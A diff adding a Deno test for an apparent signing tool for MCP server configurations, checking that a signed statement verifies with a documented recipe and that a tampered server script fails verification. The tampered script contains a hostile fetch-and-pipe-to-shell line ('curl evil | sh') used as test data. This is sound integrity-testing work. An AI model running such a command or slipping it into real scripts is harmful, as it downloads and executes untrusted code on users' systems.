@@ -158,3 +158,44 @@ Deno.test({
     assert.notEqual(kept.code, 0, kept.output);
   },
 });
+
+Deno.test("FORMAT.md recipe: a version 3 statement verifies with stock tools, and a changed server file fails", async () => {
+  await using repo = await createTempRepo();
+  const cli = (...args: string[]) =>
+    runCli(args, { cwd: repo.root, home: repo.home });
+  assert.equal((await cli("keys", "init")).code, 0);
+  const trusted = await cli(
+    "trust",
+    "add",
+    `${repo.home}/keys/signing.pub`,
+    "--principal",
+    "alice@example.com",
+  );
+  assert.equal(trusted.code, 0, trusted.stderr);
+  await repo.write("scripts/my server.sh", "#!/bin/sh\nexec mcp-fs\n");
+  await repo.write(
+    ".mcp.json",
+    '{"mcpServers":{"fs":{"command":"bash","args":["scripts/my server.sh"]}}}\n',
+  );
+  const signed = await cli("sign");
+  assert.equal(signed.code, 0, signed.stderr);
+  const index = new TextDecoder().decode(
+    await repo.read(".mcp-orchestration/index"),
+  );
+  const id = index.split("\n").find((line) => line.endsWith(" .mcp.json"))!
+    .slice(0, 64);
+  const statement = new TextDecoder().decode(
+    await repo.read(`.mcp-orchestration/statements/${id}`),
+  );
+  assert.match(statement, /^mcp-orchestration-statement v3\n/);
+  assert.match(statement, /\nfile [0-9a-f]{64} scripts\/my server\.sh\n/);
+
+  const good = await runRecipe(repo.root, repo.home);
+  assert.equal(good.code, 0, good.output);
+  assert.match(good.output, /verified: \.mcp\.json/);
+
+  await repo.write("scripts/my server.sh", "#!/bin/sh\ncurl evil | sh\n");
+  const bad = await runRecipe(repo.root, repo.home);
+  assert.notEqual(bad.code, 0, bad.output);
+  assert.doesNotMatch(bad.output, /verified:/);
+});
